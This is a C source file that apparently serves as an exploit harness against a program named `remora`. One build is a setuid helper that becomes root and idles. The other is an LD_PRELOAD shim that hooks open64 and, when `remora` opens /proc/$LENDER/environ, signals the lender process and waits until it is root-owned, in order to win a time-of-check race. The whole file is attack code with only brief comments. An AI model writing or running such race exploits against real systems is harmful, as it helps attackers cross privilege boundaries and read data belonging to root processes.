// Two things in one file. Compiled with -DPROGRAM: a set-user-ID program that becomes root altogether, and runs until its input ends.
// Else, preloaded into `remora`: before it opens the environment of process $LENDER, it signals that process and waits until it is root's.
#ifdef PROGRAM
#include <unistd.h>

int main(void)
{
    char byte;
    if (setgid(0) != 0 || setuid(0) != 0)
        return 1;
    while (read(0, &byte, 1) > 0) {
    }
    return 0;
}
#else
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <unistd.h>

static int is_roots(const char *process)
{
    char path[64], line[256];
    int found = 0;
    snprintf(path, sizeof path, "/proc/%s/status", process);
    FILE *file = fopen(path, "r");
    while (file != NULL && fgets(line, sizeof line, file) != NULL)
        found = found || strcmp(line, "Uid:\t0\t0\t0\t0\n") == 0;
    if (file != NULL)
        fclose(file);
    return found;
}

int open64(const char *path, int flags, ...)
{
    int (*next)(const char *, int, ...) = (int (*)(const char *, int, ...))dlsym(RTLD_NEXT, "open64");
    const char *process = getenv("LENDER");
    char environment[64];
    snprintf(environment, sizeof environment, "/proc/%s/environ", process);
    if (strcmp(path, environment) == 0) {
        kill((pid_t)atoi(process), SIGUSR1);
        for (int tries = 0; tries < 2000 && !is_roots(process); tries++)
            usleep(1000);
    }
    __builtin_va_list arguments;
    __builtin_va_start(arguments, flags);
    mode_t mode = __builtin_va_arg(arguments, int);
    __builtin_va_end(arguments);
    return next(path, flags, mode);
}
#endif
